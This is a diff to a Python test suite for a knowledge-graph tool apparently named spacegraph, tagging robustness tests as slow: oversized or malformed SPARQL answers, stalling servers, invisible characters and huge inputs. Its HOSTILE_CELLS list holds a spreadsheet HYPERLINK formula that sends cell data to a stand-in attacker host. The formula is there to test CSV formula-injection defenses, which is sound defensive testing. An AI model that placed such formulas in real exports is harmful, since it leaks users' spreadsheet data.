@@ -109,6 +109,7 @@ def _one_line_error(done, *expected):
 # ---------------------------------------------------------------- 1. answers too large
 
 
+@pytest.mark.slow
 def test_millions_of_empty_bindings_take_a_small_multiple_of_the_answer(serving):
     count = 3_000_000  # 9 MB; before the streaming reader, 6 million took 2.5 GB
     big, small = serving(_json_answer(*_empty_bindings(count))), serving(_json_answer(*_empty_bindings(10)))
@@ -120,12 +121,14 @@ def test_millions_of_empty_bindings_take_a_small_multiple_of_the_answer(serving)
     assert peak - baseline < 5 * 3 * count
 
 
+@pytest.mark.slow
 def test_an_answer_with_more_results_than_the_default_cap_ends_in_one_line(serving):
     url = serving(_json_answer(*_empty_bindings(1_000_001)))
     done, peak = _run("query", "--endpoint", url, "--sparql", "SELECT * WHERE {}")
     _one_line_error(done, f"{url} sent more than 1,000,000 results", "raise the limit with --max-results")
 
 
+@pytest.mark.slow
 def test_max_results_bounds_the_library_and_the_projection(serving):
     url = serving(_json_answer(*_empty_bindings(50)))
     with pytest.raises(TooManyResults) as caught:
@@ -152,6 +155,7 @@ MALFORMED = {
 }
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("parts", MALFORMED.values(), ids=MALFORMED.keys())
 def test_a_malformed_answer_ends_the_projection_in_one_line(serving, parts):
     url = serving(_json_answer(*parts))
@@ -162,6 +166,7 @@ def test_a_malformed_answer_ends_the_projection_in_one_line(serving, parts):
     _one_line_error(done, url)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("name", ["nested a million deep", "a binding not an object", "a term without type", "not JSON"])
 def test_a_malformed_answer_ends_a_query_in_one_line(serving, name):
     url = serving(_json_answer(*MALFORMED[name]))
@@ -190,6 +195,7 @@ def _trickle():
         time.sleep(1)
 
 
+@pytest.mark.slow
 def test_push_to_a_trickling_server_ends_at_its_timeout(serving, kg):
     url = serving(_trickle).replace("/query", "/store")
     started = time.monotonic()
@@ -200,6 +206,7 @@ def test_push_to_a_trickling_server_ends_at_its_timeout(serving, kg):
     _one_line_error(done, "did not answer the upload within 2 s")
 
 
+@pytest.mark.slow
 def test_a_query_to_a_trickling_server_ends_at_its_timeout(serving):
     url = serving(_trickle)
     done, _ = _run("query", "--endpoint", url, "--timeout", "2", "--sparql", "ASK {}", timeout=30)
@@ -233,6 +240,7 @@ def _cli(*arguments):
     return CliRunner().invoke(main, [str(a) for a in arguments])
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("brk", BREAKS, ids=[f"U+{ord(c):04X}" for c in BREAKS])
 def test_a_line_break_in_a_title_stays_in_the_comment_and_the_literal(data_dir, brk):
     from rdflib import Graph, Literal, URIRef
@@ -251,6 +259,7 @@ def test_a_line_break_in_a_title_stays_in_the_comment_and_the_literal(data_dir, 
     assert titles == {Literal(title, lang="en")}  # the title keeps its value, break and all
 
 
+@pytest.mark.slow
 def test_a_title_with_a_line_break_is_accepted_as_data_not_as_triples(data_dir):
     from spacegraph.ingest.sheet import read_sheet, sheet_text
 
@@ -294,6 +303,7 @@ def test_a_label_with_a_bidirectional_control_fails_validation_naming_file_and_l
             "OVERRIDE") in done.output
 
 
+@pytest.mark.slow
 def test_an_accepted_actor_name_with_a_zero_width_space_names_the_sheet_row(data_dir):
     from spacegraph.ingest.sheet import read_sheet, sheet_text
 
@@ -337,6 +347,7 @@ def _many_pages_pdf(path, pages):
     return path
 
 
+@pytest.mark.slow
 def test_a_pdf_of_a_hundred_thousand_pages_is_refused_before_its_text_is_read(tmp_path, data_dir):
     pdf = _many_pages_pdf(tmp_path / "endless.pdf", 100_000)
     done, _ = _run("ingest", pdf, "--data-dir", data_dir, "--dry-run", timeout=60)  # a hang guard: before, past 300 s
@@ -353,6 +364,7 @@ def test_max_pages_sets_the_limit(tmp_path):
     assert read_document(pdf, max_pages=3).blocks == ("Page of text.",) * 3
 
 
+@pytest.mark.slow
 def test_a_one_line_text_is_read_and_normalised_within_a_few_times_its_size(tmp_path):
     line = tmp_path / "line.txt"
     line.write_text("lorem ipsum dolor sit amet " * 1_000_000, encoding="utf-8")  # 27 MB, one line, no sentence end
@@ -368,6 +380,7 @@ def test_a_one_line_text_is_read_and_normalised_within_a_few_times_its_size(tmp_
     assert grown < 5 * line.stat().st_size  # before: words listed whole, 10 times the line
 
 
+@pytest.mark.slow
 def test_ingesting_a_one_line_text_takes_a_few_times_its_size_above_a_small_document(tmp_path, data_dir):
     line = tmp_path / "line.txt"
     # no sentence end, no name; a British spelling, which folding maps back character by character
@@ -389,6 +402,7 @@ def _relationship_sentences(count):
                    for k in range(count))
 
 
+@pytest.mark.slow
 def test_ingesting_a_long_run_of_relationship_sentences_completes(tmp_path, data_dir):
     text = tmp_path / "relationships.txt"
     text.write_text("Relationship run\n\n" + _relationship_sentences(15_000), encoding="utf-8")  # 1 MB
@@ -404,6 +418,7 @@ def test_ingesting_a_long_run_of_relationship_sentences_completes(tmp_path, data
 HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-5", "@SUM(A1:A9)", "\tx", "\rx", "'quoted", "plain"]
 
 
+@pytest.mark.slow
 def test_query_results_as_csv_defuse_formulas_and_read_back(serving):
     import csv
     import io
@@ -421,6 +436,8 @@ def test_query_results_as_csv_defuse_formulas_and_read_back(serving):
     assert [restored(cell) for cell in cells] == sent
 
 
+@pytest.mark.server
+@pytest.mark.slow
 def test_the_endpoint_answers_csv_with_formulas_defused(spacegraph_endpoint):
     import urllib.parse
     import urllib.request
